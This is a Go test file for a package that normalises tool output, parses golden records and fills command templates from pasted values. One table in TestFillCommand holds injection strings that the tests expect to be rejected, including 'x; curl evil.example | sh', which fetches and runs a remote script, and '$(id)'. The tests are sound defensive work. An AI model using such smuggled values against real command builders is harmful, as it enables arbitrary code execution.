package canon

import (
	"strings"
	"testing"
)

func TestNormalize(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"\x1b[1;31merror\x1b[0m: x\r\n", "error: x\n"},
		{"line  \t\nnext", "line\nnext"},
		{"cd /tmp/tmp.Xy12AbCd9z && ls", "cd /tmp/<tmp> && ls"},
		{"File \"/tmp/tmpab12_x9z/x.py\"", "File \"/tmp/<tmp>/x.py\""},
		{"/tmp/pip-build-env-b0jaghlp/overlay", "/tmp/pip-build-env-<tmp>/overlay"},
		{"at 2026-12-05T07:19:02.123Z done", "at <time> done"},
		{"npm/_logs/2026-12-05T07_19_02_123Z-debug-0.log", "npm/_logs/<time>-debug-0.log"},
		{"Sat Dec  5 07:19:02 UTC 2026", "<time>"},
		{"[07:19:02] start", "[<clock>] start"},
		{"pointer 0x7f3a2b1c0000 freed", "pointer 0x<addr> freed"},
		{"killed pid 12345", "killed pid <pid>"},
		{"sshd[812]: Accepted", "sshd[<pid>]: Accepted"},
		{"Finished in 0.53s, total 12 ms", "Finished in <duration>, total <duration>"},
		// What must stay: error codes, versions, ports, line numbers.
		{"error[E0382]: borrow of moved value", "error[E0382]: borrow of moved value"},
		{"Python 3.11.2 main.py:12:5 port 8080", "Python 3.11.2 main.py:12:5 port 8080"},
	} {
		if got := Normalize(tc.in); got != tc.want {
			t.Errorf("Normalize(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestRecordRoundTrip(t *testing.T) {
	rec := &Record{Verified: "2026-12-05", Script: ScriptHash("git status"), Tools: []string{"git: git version 2.39.5"},
		Output: "fatal: not a git repository (or any of the parent directories): .git\n# --- not a header\n"}
	got, err := ParseRecord(rec.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if got.Verified != rec.Verified || got.Script != rec.Script || strings.Join(got.Tools, "|") != strings.Join(rec.Tools, "|") || got.Output != rec.Output {
		t.Errorf("round trip: %+v, want %+v", got, rec)
	}
}

func TestParseRecordErrors(t *testing.T) {
	good := string((&Record{Verified: "2026-12-05", Script: "sha256:ab", Output: "x\n"}).Marshal())
	for _, tc := range []struct{ name, in, want string }{
		{"not golden", "hello\n# ---\n", "line 1: not a golden file"},
		{"no separator", strings.TrimSuffix(strings.Replace(good, "# ---\n", "", 1), "x\n"), "without a \"# ---\" line"},
		{"bad date", strings.Replace(good, "2026-12-05", "2026-13-05", 1), "line 2: \"2026-13-05\" is not a date"},
		{"unknown header", strings.Replace(good, "# script:", "# scrpt:", 1), "line 3: \"# scrpt: sha256:ab\" is not a header line"},
		{"no script", strings.Replace(good, "# script: sha256:ab\n", "", 1), "lacks"},
	} {
		if _, err := ParseRecord([]byte(tc.in)); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: err %v, want %q", tc.name, err, tc.want)
		}
	}
}

func TestExampleIn(t *testing.T) {
	out := "Traceback (most recent call last):\n  File \"/tmp/repro/main.py\", line 1, in <module>\nModuleNotFoundError: No module named 'x'\n"
	for _, tc := range []struct {
		examples []string
		want     int
	}{
		{[]string{"ModuleNotFoundError: No module named 'x'"}, 0},
		{[]string{"other", "  File \"/tmp/repro/main.py\", line 1, in <module>\nModuleNotFoundError: No module named 'x'"}, 1},
		{[]string{"No module named 'x'"}, -1}, // part of a line is not the tool's output as printed
		{[]string{"ModuleNotFoundError: No module named 'y'"}, -1},
		{[]string{"\x1b[31mModuleNotFoundError: No module named 'x'\x1b[0m   "}, 0}, // compared after normalising
	} {
		if got, _ := ExampleIn(tc.examples, out); got != tc.want {
			t.Errorf("ExampleIn(%q) = %d, want %d", tc.examples, got, tc.want)
		}
	}
}

func TestFillCommand(t *testing.T) {
	for _, tc := range []struct {
		cmd    string
		groups map[string]string
		want   string
		ok     bool
	}{
		{"python3 -m pip install {module}", map[string]string{"module": "torch"}, "python3 -m pip install torch", true},
		{"npm install {package}", nil, "npm install {package}", false},
		{"git remote prune origin", nil, "git remote prune origin", true},
		{"awk '{print $1}' {file}", map[string]string{"file": "a.log"}, "awk '{print $1}' a.log", true},
		{"npm install {package}", map[string]string{"package": "@scope/pkg@1.2.0"}, "npm install @scope/pkg@1.2.0", true},
		// Values come from pasted text: nothing that could change the command.
		{"npm install {package}", map[string]string{"package": "x; curl evil.example | sh"}, "npm install {package}", false},
		{"npm install {package}", map[string]string{"package": "$(id)"}, "npm install {package}", false},
		{"npm install {package}", map[string]string{"package": "--global"}, "npm install {package}", false},
		{"sudo -u postgres createuser {role}", map[string]string{"role": "bob smith"}, "sudo -u postgres createuser {role}", false},
	} {
		got, ok := FillCommand(tc.cmd, tc.groups)
		if got != tc.want || ok != tc.ok {
			t.Errorf("FillCommand(%q) = %q, %v; want %q, %v", tc.cmd, got, ok, tc.want, tc.ok)
		}
	}
}

func TestDerive(t *testing.T) {
	e := validEntry()
	e.Workarounds = append(e.Workarounds, Workaround{SuccessRate: 0.4})
	e.Reproduce = &Reproduce{Script: "python3 -c 'import yaml'"}
	e.Derive(&Record{Verified: "2026-12-01", Script: ScriptHash(e.Reproduce.Script)})
	if e.FixRate != 0.9 || e.Verification != "reproduced" || e.LastVerified != "2026-12-01" || e.EvidenceCount != len(e.Evidence)+1 {
		t.Errorf("derived %v %s %s %d", e.FixRate, e.Verification, e.LastVerified, e.EvidenceCount)
	}
	e.Reproduce.Script += " # edited"
	e.Derive(e.Record)
	if e.Verification != "ai_generated" || e.LastVerified != "" || e.EvidenceCount != len(e.Evidence) {
		t.Errorf("a record of another script still counts: %s %s %d", e.Verification, e.LastVerified, e.EvidenceCount)
	}
}
